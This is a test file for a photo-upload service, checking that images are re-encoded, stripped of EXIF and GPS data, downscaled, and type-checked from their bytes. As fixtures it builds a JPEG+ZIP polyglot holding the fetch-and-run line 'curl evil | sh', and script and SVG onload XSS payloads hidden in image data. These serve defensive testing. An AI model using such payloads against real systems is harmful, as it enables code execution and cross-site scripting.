// A photo is stored as a fresh JPEG made by sharp, never as the bytes that arrived: the type is
// judged from the bytes, anything riding along (an appended zip, a script, EXIF with the GPS
// position) is gone, and the long side is at most 2,000 px. Every image here is a real one, made by
// sharp.
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { crc32, deflateRawSync } from 'node:zlib';
import { tempCore, type TestCore } from '../helpers/core';
import { fingerprint } from '../helpers/fingerprint';

let core: TestCore;
let meetingId: number;
beforeAll(async () => {
  core = tempCore();
  meetingId = (await core.call('meeting.create', {})).id;
});
afterAll(() => core.dispose());

const add = (fileName: string, bytes: Buffer) => core.registry.dispatch('photo.add', { meetingId, fileName, dataBase64: bytes.toString('base64') });

async function stored(fileName: string, bytes: Buffer): Promise<{ data: Buffer; thumb: Buffer; width: number; height: number }> {
  const r = await add(fileName, bytes);
  if (!r.ok) throw new Error(r.error.message);
  const { id } = r.value as { id: number };
  return core.db.prepare('SELECT data, thumb, width, height FROM photos WHERE id = ?').get(id) as { data: Buffer; thumb: Buffer; width: number; height: number };
}

const GPS = { GPSLatitudeRef: 'N', GPSLatitude: '21/1 1/1 30/1', GPSLongitudeRef: 'E', GPSLongitude: '105/1 46/1 12/1' };
/** The GPS IFD pointer tag (0x8825), little-endian as libvips writes it. */
const GPS_TAG = Buffer.from([0x25, 0x88]);

const image = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: '#5a7d9a' } });

/** A minimal zip with one file, as appended to a "photo" to make a JPEG+ZIP polyglot. */
function tinyZip(name: string, text: string): Buffer {
  const data = Buffer.from(text);
  const body = deflateRawSync(data);
  const n = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(crc32(data), 14);
  local.writeUInt32LE(body.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(n.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc32(data), 16);
  central.writeUInt32LE(body.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(n.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + n.length, 12);
  end.writeUInt32LE(30 + n.length + body.length, 16);
  return Buffer.concat([local, n, body, central, n, end]);
}

describe('photos are re-encoded, never stored as given', () => {
  it('strips the GPS position (and all EXIF) from a phone photo, and downscales it', async () => {
    const phone = await image(4000, 3000).withExif({ IFD0: { Make: 'Apple', Model: 'iPhone' }, IFD3: GPS }).jpeg({ quality: 90 }).toBuffer();
    const inExif = (await sharp(phone).metadata()).exif;
    expect(inExif?.includes(GPS_TAG)).toBe(true);
    const s = await stored('IMG_0001.JPG', phone);
    expect([s.width, s.height]).toEqual([2000, 1500]);
    for (const out of [s.data, s.thumb]) {
      const meta = await sharp(out).metadata();
      expect(meta.exif).toBeUndefined();
      expect(meta.format).toBe('jpeg');
      expect(out.includes(Buffer.from('iPhone'))).toBe(false);
    }
  });

  it('applies the EXIF orientation before dropping it (a portrait stays a portrait)', async () => {
    const sideways = await image(300, 200).withMetadata({ orientation: 6 }).jpeg().toBuffer();
    const s = await stored('portrait.jpg', sideways);
    expect([s.width, s.height]).toEqual([200, 300]);
  });

  it('drops a zip appended to a JPEG (JPEG+ZIP polyglot)', async () => {
    const jpeg = await image(800, 600).jpeg().toBuffer();
    const polyglot = Buffer.concat([jpeg, tinyZip('payload.sh', 'curl evil | sh')]);
    // It really is both: a JPEG to sharp, a zip from its end record.
    expect((await sharp(polyglot).metadata()).format).toBe('jpeg');
    expect(polyglot.readUInt32LE(polyglot.length - 22)).toBe(0x06054b50);
    const s = await stored('polyglot.jpg', polyglot);
    expect(s.data.includes(Buffer.from('PK\x03\x04', 'latin1'))).toBe(false);
    expect(s.data.includes(Buffer.from('payload.sh'))).toBe(false);
    expect(s.data.subarray(-2)).toEqual(Buffer.from([0xff, 0xd9]));
    expect([s.width, s.height]).toEqual([800, 600]);
  });

  it('drops a script hidden in a JPEG comment or after the image', async () => {
    const commented = await image(320, 240).jpeg().toBuffer();
    // A COM segment right after SOI, and HTML after EOI.
    const com = Buffer.concat([Buffer.from([0xff, 0xfe, 0x00, 0x20]), Buffer.from('<script>alert(1)</script>'.padEnd(30, ' '))]);
    const evil = Buffer.concat([commented.subarray(0, 2), com, commented.subarray(2), Buffer.from('<html><script>alert(2)</script>')]);
    expect((await sharp(evil).metadata()).format).toBe('jpeg');
    const s = await stored('comment.jpg', evil);
    expect(s.data.includes(Buffer.from('<script>'))).toBe(false);
  });

  it('re-encodes a PNG and a WebP to JPEG, with text chunks gone', async () => {
    const png = await image(600, 400).png().withMetadata().toBuffer();
    const s1 = await stored('a.png', png);
    expect(s1.data.subarray(0, 3)).toEqual(Buffer.from([0xff, 0xd8, 0xff]));
    const webp = await image(600, 400).webp().toBuffer();
    const s2 = await stored('b.webp', webp);
    expect((await sharp(s2.data).metadata()).format).toBe('jpeg');
  });

  it('downscales every orientation to 2,000 px on the long side, and never enlarges', async () => {
    expect(await stored('tall.jpg', await image(1000, 5000).jpeg().toBuffer())).toMatchObject({ width: 400, height: 2000 });
    expect(await stored('wide.png', await image(6000, 1500).png().toBuffer())).toMatchObject({ width: 2000, height: 500 });
    expect(await stored('small.jpg', await image(640, 480).jpeg().toBuffer())).toMatchObject({ width: 640, height: 480 });
    expect(await stored('edge.jpg', await image(2000, 1000).jpeg().toBuffer())).toMatchObject({ width: 2000, height: 1000 });
  });
});

describe('the type is judged from the bytes', () => {
  const refused: [string, () => Promise<Buffer>, string][] = [
    ['a GIF named .jpg', () => image(50, 50).gif().toBuffer(), 'a.jpg'],
    ['a TIFF named .jpg', () => image(50, 50).tiff().toBuffer(), 'b.jpg'],
    ['an SVG named .png', async () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"/>'), 'c.png'],
    ['a zip named .jpg', async () => tinyZip('x.txt', 'hello'), 'd.jpg'],
    ['a JPEG header on a zip', async () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), tinyZip('x.txt', 'hello')]), 'e.jpg'],
    ['a PNG signature on text', async () => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from('not really a png')]), 'f.png'],
  ];
  for (const [name, make, fileName] of refused) {
    it(`refuses ${name}, storing nothing`, async () => {
      const before = fingerprint(core.db);
      const r = await add(fileName, await make());
      expect(r.ok).toBe(false);
      if (!r.ok) expect(r.error.message).toMatch(/không phải ảnh JPEG, PNG hoặc WebP|bị hỏng/);
      expect(fingerprint(core.db)).toBe(before);
    });
  }

  it('a JPEG named .png or .txt is still a photo (the name is never trusted, either way)', async () => {
    const s = await stored('anh.txt', await image(100, 80).jpeg().toBuffer());
    expect([s.width, s.height]).toEqual([100, 80]);
  });
});
